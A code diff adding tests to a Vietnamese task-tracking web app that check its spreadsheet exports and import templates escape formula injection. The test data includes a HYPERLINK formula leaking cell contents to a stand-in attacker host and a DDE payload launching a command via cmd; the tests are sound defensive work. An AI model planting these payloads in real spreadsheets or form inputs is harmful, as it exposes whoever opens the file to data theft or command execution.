@@ -147,3 +147,63 @@ def test_horizon_is_configurable(app, client, session, as_user):
                                  "due_on": (local_today() + timedelta(days=400)).strftime("%d/%m/%Y"),
                                  "priority": "normal"})
     assert resp.status_code == 400 and "Hạn hoàn thành không được sau 1 năm kể từ ngày giao." in resp.text
+
+
+# --- 4. spreadsheet formula injection -------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _all_cells(wb):
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            yield from row
+
+
+def test_task_content_is_a_literal_in_the_report_export(client, session, as_user):
+    as_user("thuky")
+    did = _new_directive(client, session)
+    resp = _assign(client, did, {"content": EVIL, "lead": str(_unit(session, "chiengle").id),
+                                 "deadline_kind": "none", "priority": "normal"})
+    assert resp.status_code == 302
+    parent = session.scalar(select(Task).where(Task.content == EVIL))
+    # A ward head writes the content of a sub-task.
+    switch(client, "chiengle.lanhdao")
+    act(client, parent.id, "receive")
+    page = client.get(f"/tasks/{parent.id}/split")
+    resp = client.post(f"/tasks/{parent.id}/split", data={
+        "csrf_token": csrf_from(page.text), "version": str(_fresh(session, parent.id).version),
+        "items-0-content": "@SUM(1+1)*cmd|' /C calc'!A0", "items-0-lead": str(_unit(session, "chiengle-to1").id),
+        "items-0-due_on": ""})
+    assert resp.status_code == 302
+    resp = client.get("/reports/export.xlsx?kind=custom&start=01/01/2022&end=31/12/2030")  # the ward's own report
+    wb = load_workbook(io.BytesIO(resp.data))
+    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]
+    contents = [c for c in _all_cells(wb) if isinstance(c.value, str) and "SUM(" in c.value]
+    assert contents and {c.value for c in contents} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert all(c.data_type == "s" for c in contents)
+    switch(client, "thuky")
+    resp = client.get("/reports/export.xlsx?kind=custom&start=01/01/2022&end=31/12/2030")
+    assert resp.status_code == 200
+    wb = load_workbook(io.BytesIO(resp.data))
+    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]
+    contents = [c for c in _all_cells(wb) if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert contents and {c.value for c in contents} == {"'" + EVIL}
+    assert all(c.data_type == "s" for c in contents)
+    # Same file read by a spreadsheet program's formula engine would see text: check the raw XML too.
+    import zipfile
+    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
+        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml
+
+
+def test_import_templates_write_no_formulas(client, session, as_user):
+    as_user("thuky")
+    did = _new_directive(client, session)
+    wb = load_workbook(io.BytesIO(client.get(f"/directives/{did}/import/template.xlsx").data))
+    assert not [c for c in _all_cells(wb) if c.data_type == "f"]
+    # The helper every writer uses.
+    from tracker.spreadsheet import literal, literal_row
+    assert literal_row(["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "ok", 5, None]) == \
+        ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "ok", 5, None]
+    assert literal("Bình thường = ok") == "Bình thường = ok"
